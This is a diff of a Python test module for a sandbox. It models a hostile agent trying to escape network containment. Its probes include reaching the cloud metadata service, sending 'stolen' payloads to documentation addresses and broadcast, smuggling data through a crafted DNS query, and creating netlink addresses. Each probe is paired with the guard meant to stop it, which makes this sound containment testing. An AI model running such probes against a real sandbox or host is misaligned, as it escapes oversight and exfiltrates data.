@@ -1,6 +1,7 @@
 """A hostile agent that wants out: the host's loopback, its sockets, the metadata service, DNS, the world."""
 
 import ctypes
+import errno
 import os
 import socket
 import struct
@@ -8,6 +9,8 @@ import struct
 from tests.threats.sandbox.agents.common import FACTS, libc, syscall
 
 SECONDS = 3
+MSG_PROBE = 0x10
+"""The kernel does all but send."""
 
 
 def reached(family, kind, address, word=b"?"):
@@ -17,6 +20,13 @@ def reached(family, kind, address, word=b"?"):
         peer.connect(address)
         peer.send(word)
         return peer.recv(64)
+
+
+def routed(family, address):
+    """The address from which the kernel would send, if it knows a way; nothing is sent."""
+    with socket.socket(family, socket.SOCK_DGRAM) as peer:
+        peer.connect(address)
+        return peer.getsockname()[0]
 
 
 def loopback_of_the_host():
@@ -68,30 +78,32 @@ def every_usual_socket_of_the_host():
 
 def metadata_service():
     """Guard: no interface but the sandbox's own loopback."""
-    return reached(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80), b"GET / HTTP/1.0\r\n\r\n")
+    return routed(socket.AF_INET, ("169.254.169.254", 80))
 
 
 def public_address():
-    """Guard: no interface but the sandbox's own loopback. (Addresses for documentation, RFC 5737 and 3849.)"""
-    return reached(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))
+    """Guard: no interface but the sandbox's own loopback. (For documentation: RFC 5737, RFC 3849.)"""
+    return routed(socket.AF_INET, ("198.51.100.1", 80))
 
 
 def public_address_through_ipv6():
     """Guard: no interface but the sandbox's own loopback."""
-    return reached(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 80))
+    return routed(socket.AF_INET6, ("2001:db8::1", 80))
 
 
 def sending_without_connecting():
     """Guard: no route."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
-        return peer.sendto(b"stolen", ("192.0.2.1", 53))
+        peer.sendto(b"stolen", MSG_PROBE, ("198.51.100.1", 53))
+        return True
 
 
 def broadcasting():
     """Guard: no interface that could."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
         peer.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-        return peer.sendto(b"stolen", ("255.255.255.255", 9))
+        peer.sendto(b"stolen", MSG_PROBE, ("255.255.255.255", 9))
+        return True
 
 
 def name_service():
@@ -99,12 +111,17 @@ def name_service():
     return socket.getaddrinfo("example.com", 80)
 
 
+def name_of_the_host_as_an_address():
+    """Guard: /etc/hosts is made up, and no resolver can be reached."""
+    return socket.getaddrinfo(FACTS["host"], 80)[0][4][0]
+
+
 def stealing_through_a_name_lookup():
     """Guard: no route to any resolver."""
     question = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + b"\6stolen\7example\3com\0" + struct.pack(">HH", 1, 1)
     for resolver in FACTS["resolvers"]:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
-            peer.sendto(question, (resolver, 53))
+            peer.sendto(question, MSG_PROBE, (resolver, 53))
     return FACTS["resolvers"]
 
 
@@ -134,8 +151,13 @@ def kernel_crypto():
 
 
 def kernel_crypto_as_a_pair():
-    """Guard: seccomp looks at socketpair too."""
-    return socket.socketpair(socket.AF_ALG, socket.SOCK_SEQPACKET)
+    """Guard: seccomp looks at socketpair too. (The kernel's code for the family was reached if it says that it has none.)"""
+    try:
+        return socket.socketpair(socket.AF_ALG, socket.SOCK_SEQPACKET)
+    except OSError as error:
+        if error.errno == errno.EOPNOTSUPP:
+            return str(error)
+        raise
 
 
 def bluetooth():
@@ -143,12 +165,12 @@ def bluetooth():
     return socket.socket(31, socket.SOCK_RAW, 1)
 
 
-def a_new_interface():
-    """Guard: no capability in the sandbox's namespace of networks."""
-    link = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH4s", 8, 3, b"tun\0")
+def a_new_address():
+    """Guard: no capability in the sandbox's namespace of networks. (RTM_NEWADDR: 10.1.2.3 for the loopback.)"""
+    link = struct.pack("=BBBBi", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 1, 2, 3]))
     with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as peer:
         peer.bind((0, 0))
-        peer.send(struct.pack("=IHHII", 16 + len(link), 16, 0x605, 1, 0) + link)
+        peer.send(struct.pack("=IHHII", 16 + len(link), 20, 0x605, 1, 0) + link)
         answer = peer.recv(4096)
         number = -struct.unpack_from("=i", answer, 16)[0]
     if number:
